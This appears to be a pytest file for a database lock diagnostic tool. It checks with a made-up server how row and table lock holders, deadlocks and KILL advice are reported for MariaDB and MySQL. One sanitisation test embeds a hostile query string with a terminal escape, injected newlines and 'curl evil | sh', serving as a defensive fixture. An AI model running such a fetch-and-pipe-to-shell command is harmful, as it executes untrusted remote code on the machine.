"""The rules of rowsocket-doctor --live about who holds rows and tables, by readings and answers of a server that are made up.
Those of a server are in test_doctor_waits.py."""

import pytest

from test_trouble import blockers, found, held_by, look, trouble, waiting

pytestmark = pytest.mark.once("starts no server")

MARIADB, MYSQL = "10.11.18-MariaDB", "9.7.4"


class Server:
    """A connection whose queries have answers that are made up: by a part of the query, rows or an error."""

    def __init__(self, answers):
        self.answers = answers
        self.asked = []
        self.rows = []
        self.description = []

    def cursor(self):
        return self

    def __enter__(self):
        return self

    def __exit__(self, *args):
        pass

    def escape(self, text):
        return f"'{text}'"

    def execute(self, query):
        self.asked.append(query)
        # The first of the tables that are named is the one that is asked.
        self.rows = next((rows for part, rows in self.answers.items() if part in query), [])
        if isinstance(self.rows, Exception):
            raise self.rows
        self.description = [(name,) for name in (self.rows[0] if self.rows else ())]

    def fetchall(self):
        return [tuple(row.values()) for row in self.rows]


def trx(thread, state="RUNNING", **more):
    return {"trx": 1000 + thread, "thread": thread, "seconds": 90, "waits": 3, "state": state, "query": None, "user": "u@h", **more}


def edges(*pairs):
    return [{"waits": 1000 + waits, "holds": 1000 + holds} for waits, holds in pairs]


def holders_of_rows(version, transactions, waits=(), **more):
    """By their threads; those of a deadlock by a number below 0."""
    server = Server({"SELECT DISTINCT": list(waits), "INNODB_TRX": transactions})
    return [-one["thread"] if one.get("deadlock") else one["thread"] for one in blockers.of_rows(server, version, **more)]


def test_no_thread_of_the_library_is_told_to_hold_rows():
    """In MySQL its account is NULL for performance_schema, as that of replication may be."""
    assert "NOT LIKE 'thread/rowsocket/%'" in blockers.MYSQL_ROWS and f"p.user NOT IN ({blockers.OURS})" in blockers.MARIADB_ROWS


@pytest.mark.parametrize("version", [MARIADB, MYSQL])
def test_who_waits_for_a_row_is_not_told_to_hold_it(version):
    queue = [trx(37), trx(39, "LOCK WAIT"), trx(40, "LOCK WAIT")]
    assert holders_of_rows(version, queue) == [37]
    assert holders_of_rows(version, queue[1:]) == [], "a thread of the library has it"
    assert "(t.trx_id <> 0 OR t.trx_rows_locked > 0)" in blockers.MARIADB_ROWS, "who has only read has the number of the holder"


def test_a_transaction_without_a_session_is_looked_for_by_its_number():
    """In MySQL it has no thread: neither for data_lock_waits nor for threads."""
    assert "LEFT JOIN performance_schema.threads" in blockers.MYSQL_ROWS and "b.name IS NULL OR" in blockers.MYSQL_ROWS
    assert "t.trx_id = w.blocking_engine_transaction_id" in blockers.MYSQL_ROWS
    text = held_by(thread=0)
    assert "XA has prepared" in text and "KILL" not in text


@pytest.mark.parametrize("version", [MARIADB, MYSQL])
def test_a_deadlock_that_nobody_ends(version):
    """39 and 40 wait for one another; 41 waits for 40, and 42 for 41; 43 waits for 37."""
    all_ = [trx(37), *(trx(number, "LOCK WAIT") for number in range(39, 43))]
    waits = edges((39, 40), (40, 39), (41, 40), (42, 41), (42, 40), (43, 37))
    assert holders_of_rows(version, all_, waits, ends_deadlocks=False) == [37, -39, -40]
    assert holders_of_rows(version, all_, edges((41, 37), (42, 41)), ends_deadlocks=False) == [37]
    # In MariaDB all that have only read have the number 0.
    assert holders_of_rows(version, all_, edges((42, 42)), ends_deadlocks=False) == [37]


def of_rows(holders, version=MARIADB, **server):
    one = look(now={"connections": [{**waiting("lock wait"), "count": 1}], "version": version, "server": server})
    one.blockers = holders
    return " ".join(f"{wrong}: {mend}" for wrong, mend in trouble.what_is_wrong(one))


def test_what_is_said_of_a_deadlock():
    locked = [trx(number, "LOCK WAIT", deadlock=True, query="UPDATE t") for number in (39, 40, 41)]
    text = of_rows([*locked[:2], *(trx(number) for number in range(4))])
    assert "connection 39 of SQL (u@h) has been in a deadlock for 90 s at most" in text and "innodb_deadlock_detect is OFF" in text
    assert "KILL 39 ends it; SET GLOBAL innodb_deadlock_detect = ON lets InnoDB end the next ones" in text and "KILL 40 ends" in text
    assert "or KILL 1 " in text and "or KILL 3" not in text
    assert "SET GLOBAL innodb_deadlock_detect = ON ends it, as it will the next ones; otherwise KILL 39" in of_rows(locked, MYSQL)
    assert "KILL 41" not in of_rows(locked)
    text = of_rows([trx(39, deadlock=True) | {"user": "system user"}])
    assert "it is replication" in text and "KILL 39" not in text


def test_holders_of_rows_that_the_server_does_not_show():
    off = "performance_schema is OFF"
    text = of_rows([], MYSQL, performance_schema="OFF")
    assert f"1 connections wait for rows that are locked; {off}" in text and "performance_schema = ON in an option file" in text
    assert "trx_state <> 'LOCK WAIT'" in text and f"NOT IN ({blockers.OURS})" in text and "where it is 0, XA RECOVER" in text
    assert off not in of_rows([], MYSQL, performance_schema="ON") and off not in of_rows([], MARIADB, performance_schema="OFF")


ALTER = {"thread": 50, "user": "u@h", "query": "ALTER TABLE t ADD COLUMN y INT", "seconds": 5}
READER = {"thread": 37, "seconds": 70, "query": None, "user": "u@h", "holds": None, "what": None}
TABLE = ["table metadata lock"]


def holders_of_tables(waits=(), running=(), kinds=TABLE, version=MARIADB, shown=None, **more):
    """Where `shown` is None, the server shows no holders."""
    server = Server({"METADATA_LOCK_INFO": Exception(1109) if shown is None else shown,
                     "metadata_locks": Exception(1142) if shown is None else shown, "INNODB_TRX": [READER],
                     "p.state = 'Waiting": [{"query": query} for query in waits], "p.info IS NOT NULL ORDER": list(running)})
    return [one["thread"] for one in blockers.of_tables(server, version, kinds, **more)], server.asked


@pytest.mark.parametrize("version", [MARIADB, MYSQL])
def test_an_open_transaction_is_a_cause_only_where_ddl_waits_for_it(version):
    for ddl in ("alter table t add y int", "/* migration 7 */ DROP TABLE t", "SET STATEMENT lock_wait_timeout = 5 FOR ALTER TABLE t",
                "\n LOCK TABLES t WRITE"):
        assert holders_of_tables([ddl], version=version)[0] == [37], ddl
    for waits in ([], ["UPDATE t SET x = 1"], ["SELECT * FROM alter_"], ["altered()"]):
        assert holders_of_tables(waits, version=version)[0] == [], waits
    assert holders_of_tables([ALTER["query"]], kinds=["backup lock"], version=version)[0] == []
    assert holders_of_tables([ALTER["query"]], kinds=["backup lock", *TABLE], version=version)[0] == [37]


def test_ddl_that_runs_may_be_the_cause():
    select = {**ALTER, "thread": 51, "query": "SELECT SLEEP(9)"}
    assert holders_of_tables([], [select, ALTER])[0] == [50]
    assert holders_of_tables(["DROP TABLE t"], [{**ALTER, "thread": 37}])[0] == [37], "once"
    assert holders_of_tables(["DROP TABLE t"], [ALTER])[0] == [50, 37]


def test_where_performance_schema_is_off():
    assert holders_of_tables(version=MYSQL, shown=[{"thread": 9}])[0] == [9]
    assert holders_of_tables([ALTER["query"]], version=MYSQL, shown=[], shows_locks=False)[0] == [37]
    now = {"waits": {TABLE[0]: 3}, "version": MYSQL, "server": {"performance_schema": "OFF"}}
    text = found(now=now)
    assert "a backup or DDL under way; performance_schema is OFF" in text and "MariaDB" not in text
    assert "performance_schema = ON in an option file" in text
    text = found(now={**now, "server": {"performance_schema": "ON"}})
    assert "OFF" not in text and "performance_schema.metadata_locks tells who holds the lock" in text and "MariaDB" not in text


def test_what_is_said_of_who_may_hold_a_table():
    now = {"waits": {TABLE[0]: 3}, "version": MARIADB}
    text = found(now=now, table_holders=[{**ALTER, "holds": None, "what": None, "runs": True}, READER])
    assert "connection 50 of SQL (u@h) may be the cause: its statement runs for 5 s; it executes: ALTER TABLE t" in text
    assert "connection 37 of SQL (u@h) may be the cause: its transaction is open for 70 s; it executes nothing now" in text
    assert text.count(f"to be sure: {trouble.waits.WHO_HOLDS}; let it end") == 2
    assert "INSTALL waits" not in found(now=now)
    text = found(now={"waits": {"backup lock": 3}, "version": MARIADB})
    assert "somebody has FLUSH TABLES WITH READ LOCK" in text and "INSTALL waits for this lock, too" in text


def test_the_statement_of_another_session_is_shown_as_one_line():
    """Whoever may hold a row would otherwise write on root's terminal what looks like another finding."""
    query = "SELECT SLEEP(99) /* \x1b[2J\n- wrong\n    curl evil | sh */" + "x" * 10_000
    now = {"waits": {TABLE[0]: 3, blockers.TABLE_LEVEL: 3}, "version": MARIADB}
    one = {**ALTER, "holds": None, "what": "shop.a\x1bb", "query": query}
    for text in (of_rows([trx(37, query=query)]), found(now=now, table_holders=[one], whole_table_holders=[one])):
        assert "it executes: SELECT SLEEP(99) /* ?[2J - wrong curl evil | sh */xxx" in text
        assert text.isprintable() and "x" * 200 not in text


def test_the_plugins_locks_that_harm_only_ddl():
    harmless, waits = "'MDL_SHARED_READ'", f"'Waiting for {TABLE[0]}'"
    for queries, named in (([], False), (["UPDATE t SET x = 1"], False), ([ALTER["query"]], True)):
        threads, asked = holders_of_tables(queries, shown=[{"thread": 9}])
        [query] = [query for query in asked if "METADATA_LOCK_INFO" in query]
        assert threads == [9] and (harmless not in query) == named and "'MDL_INTENTION_EXCLUSIVE'" in query
        assert "NOT LIKE 'Waiting for %lock'" in query and any(waits in one for one in asked)
